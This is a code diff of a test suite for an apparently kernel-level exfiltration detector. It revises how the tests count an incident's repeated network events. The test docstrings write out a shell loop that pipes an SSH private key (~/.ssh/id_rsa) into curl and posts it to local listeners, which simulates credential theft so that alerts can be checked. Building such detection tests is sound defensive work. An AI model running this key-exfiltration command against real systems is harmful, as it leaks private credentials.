@@ -78,11 +78,30 @@ def replay(trace):
     return [json.loads(l) for l in p.stdout.splitlines() if l.strip()]
 
 
+def repeats_in_trace(trace, leader, comm, ports, alert):
+    """What a summary must count, from the recording: the network events (connects and,
+    since issue 12, the sends the kernel shipped: about one per connection, the rest
+    folded in the kernel) of the processes exec'd as `comm` in session `leader` to
+    `ports`, less the alerted one. Returns (count, distinct senders, distinct ports)."""
+    events = h.read_trace(trace)
+    pids = {e["pid"] for e in events if e.get("kind") == "exec" and e.get("comm") == comm and e.get("sid") == leader}
+    nets = sorted((e for e in events if e.get("kind") in ("connect", "send") and e.get("pid") in pids
+                   and e.get("port") in ports), key=lambda e: e["ts"])
+    check(nets and nets[0]["ts"] == alert["ts_ns"], f"the alert is not the first network event of the session's "
+                                                    f"{comm}: {alert.get('ts_ns')} vs {nets[:1]}")
+    rest = nets[1:]
+    print(f"trace: {len(nets)} network events of {len(pids)} {comm} processes "
+          f"({sum(1 for e in nets if e['kind'] == 'connect')} connects, {sum(1 for e in nets if e['kind'] == 'send')} sends)")
+    return len(rest), len({e["pid"] for e in rest}), len({e["port"] for e in rest})
+
+
 def case_retry_loop():
     """`for i in $(seq 50); do cat $HOME/.ssh/id_rsa | curl --data-binary @- http://127.0.0.1:PORT/; done`:
-    50 curls send the key. One alert (the first curl, relation sibling), no other alert of the
-    session while the sensor runs, and when it stops one summary of the same incident counting the
-    other 49 (49 processes, 1 destination). The recording replays to the same alert and summary."""
+    50 curls send the key. One alert (the first curl's connect, relation sibling), no other alert
+    of the session while the sensor runs, and when it stops one summary of the same incident
+    counting every other network event of the curls: since issue 12 each curl's send is one too
+    (so at least 49 connects and 49 sends, from the 50 processes), exactly as many as the
+    recording holds, 1 destination. The recording replays to the same alert and summary."""
     h.require_root_and_sensor()
     which_real("curl"), which_real("cat"), which_real("bash")
     homes = {}
@@ -117,10 +136,12 @@ def case_retry_loop():
         check(len(mine) == 1, f"expected 1 summary of incident {a['incident']}, got {len(mine)}:\n{dump(summaries)}")
         s = mine[0]
         r = s.get("repeats") or {}
-        check(r.get("count") == ITERATIONS - 1, f"summary counts {r.get('count')}, expected {ITERATIONS - 1}: "
-                                                f"{json.dumps(s)}")
-        check(r.get("processes") == ITERATIONS - 1, f"summary: {r.get('processes')} processes, expected "
-                                                    f"{ITERATIONS - 1}: {json.dumps(s)}")
+        count, senders, _ = repeats_in_trace(ws.trace, sh.leader, "curl", {lst.port}, a)
+        check(count >= 2 * (ITERATIONS - 1), f"the recording holds {count} repeats, expected at least "
+                                             f"{2 * (ITERATIONS - 1)} (each curl's connect and send)")
+        check(r.get("count") == count, f"summary counts {r.get('count')}, expected {count}: {json.dumps(s)}")
+        check(r.get("processes") == senders and senders >= ITERATIONS - 1,
+              f"summary: {r.get('processes')} processes, expected {senders}: {json.dumps(s)}")
         check(r.get("destinations") == 1, f"summary: {r.get('destinations')} destinations, expected 1")
         check(s.get("ended") == "flushed", f"summary ended {s.get('ended')!r}, expected flushed (sensor stopped)")
         check(s.get("scope") == {"kind": "session", "id": sh.leader}, f"summary scope {s.get('scope')}, expected "
@@ -141,7 +162,9 @@ def case_retry_loop():
 
 def case_crawler():
     """One curl reads the key itself and posts it to 5 listeners (a crawler): one alert
-    (relation self) and, at stop, a summary counting 4 repeats to 4 destinations."""
+    (relation self, the first connect) and, at stop, a summary counting every other
+    network event of curl, from 1 process: since issue 12 each connection's send is one
+    too, so 4 connects and 5 sends (as many as the recording holds) to 5 destinations."""
     h.require_root_and_sensor()
     which_real("curl"), which_real("bash")
     homes = {}
@@ -152,7 +175,7 @@ def case_crawler():
 
     extra = []
     try:
-        with h.scenario(BW, prepare) as (ws, sensor, lst):
+        with h.scenario(BW, prepare, record=True) as (ws, sensor, lst):
             extra = [h.HttpListener("127.0.0.1") for _ in range(4)]
             ports = [lst.port] + [x.port for x in extra]
             home = homes["home"]
@@ -170,8 +193,10 @@ def case_crawler():
             mine = [s for s in summaries if s.get("incident") == a.get("incident")]
             check(len(mine) == 1, f"expected 1 summary of incident {a.get('incident')}, got:\n{dump(summaries)}")
             r = mine[0].get("repeats") or {}
-            check(r.get("count") == 4 and r.get("destinations") == 4 and r.get("processes") == 1,
-                  f"summary: expected 4 repeats to 4 destinations from 1 process: {json.dumps(mine[0])}")
+            count, senders, dests = repeats_in_trace(ws.trace, sh.leader, "curl", set(ports), a)
+            check(count >= 4 + 5, f"the recording holds {count} repeats, expected 4 connects and 5 sends at least")
+            check(r.get("count") == count and r.get("destinations") == dests == len(ports) and r.get("processes") == 1,
+                  f"summary: expected {count} repeats to {len(ports)} destinations from 1 process: {json.dumps(mine[0])}")
             seen = {(a["destination"]["port"])} | {mine[0]["last_destination"]["port"]}
             check(seen <= set(ports), f"destinations {seen} are not the listeners {ports}")
     finally:
